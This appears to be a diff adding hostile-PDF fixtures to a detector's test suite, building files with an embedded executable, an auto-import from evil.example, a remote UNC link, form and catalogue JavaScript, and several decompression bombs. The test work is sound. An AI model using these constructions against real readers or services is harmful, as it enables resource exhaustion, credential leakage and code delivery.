@@ -152,3 +152,92 @@ def pdf_cut_in_half() -> bytes:
 @hostile("pdf_damaged")
 def pdf_header_and_nothing_else() -> bytes:
     return b"%PDF-1.7\n" + b"garbage " * 500 + b"\n%%EOF\n"
+
+
+@hostile("pdf_embedded_files")
+def file_attached_to_a_note() -> bytes:
+    file = "<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"
+    note = f"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS {file} >>"
+    return pdf(
+        page=f"/Annots [{note}]",
+        objects=(b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",),
+    )
+
+
+@hostile("pdf_form_action")
+def data_imported_on_opening() -> bytes:
+    return pdf(catalog="/OpenAction << /S /ImportData /F (http://evil.example/data.fdf) >>")
+
+
+@hostile("pdf_open_action")
+def other_document_on_opening() -> bytes:
+    return pdf(catalog=r"/OpenAction << /S /GoToR /F (\\\\10.0.0.1\\share\\x.pdf) /D [0 /Fit] >>")
+
+
+@hostile("pdf_javascript")
+def script_in_a_form_field() -> bytes:
+    field = (
+        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (x) >> >> >>"
+    )
+    return pdf(catalog=f"/AcroForm << /Fields [{field}] >>", page=f"/Annots [{field}]")
+
+
+@hostile("pdf_javascript")
+def script_in_the_names_of_the_catalogue() -> bytes:
+    return pdf(catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>")
+
+
+# Of no files: nothing is carried along.
+@hostile(READABLE)
+def portfolio_of_files() -> bytes:
+    return pdf(catalog="/Collection << /Type /Collection /View /T >> /Names << /EmbeddedFiles << /Names [] >> >>")
+
+
+@hostile(READABLE)
+def pdf_whose_lengths_lie() -> bytes:
+    return pdf().replace(b"/Length ", b"/Length 9999999999 ", 1)
+
+
+@hostile(READABLE)
+def predictor_of_a_billion_columns() -> bytes:
+    packed = zlib.compress(bytes(1000))
+    head = b"<< /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 1000000000 /Colors 4 >> /Length %d >>"
+    return pdf(objects=(head % len(packed) + b"\nstream\n" + packed + b"\nendstream",))
+
+
+def _content_packed_by(filters: str, packed: bytes) -> bytes:
+    content = b"<< /Filter %s /Length %d >>\nstream\n%s\nendstream" % (filters.encode(), len(packed), packed)
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
+    return assemble_pdf(
+        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content]
+    )
+
+
+@hostile("pdf_bomb")
+def doubly_packed_content_with_a_fault_at_its_end() -> bytes:
+    # A checksum that does not fit: readers show all that came before it.
+    twice = zlib.compress(packed_zeros(500 * MEGABYTE), 9)
+    return _content_packed_by("[/FlateDecode /FlateDecode]", twice[:-8] + b"\xff" * 8)
+
+
+@hostile("pdf_bomb")
+def content_of_endless_runs() -> bytes:
+    return _content_packed_by("/RunLengthDecode", b"\x81\x20" * 400_000 + b"\x80")
+
+
+@hostile("pdf_bomb")
+def runs_inside_of_packed_content() -> bytes:
+    return _content_packed_by("[/FlateDecode /RunLengthDecode]", zlib.compress(b"\x81\x20" * 1_000_000, 9))
+
+
+@hostile("pdf_bomb")
+def content_of_ever_longer_words() -> bytes:
+    # LZW in which each code says the newest entry, which is one longer than the last: a kilobyte becomes a megabyte.
+    bits = ""
+    for _ in range(40):
+        bits += format(256, "09b") + format(32, "09b")
+        for entries, code in enumerate(range(258, 4090)):
+            width = 9 + (entries > 252) + (entries > 764) + (entries > 1788)
+            bits += format(code, f"0{width}b")
+    whole = bits + "0" * (-len(bits) % 8)
+    return _content_packed_by("/LZWDecode", int(whole, 2).to_bytes(len(whole) // 8, "big"))
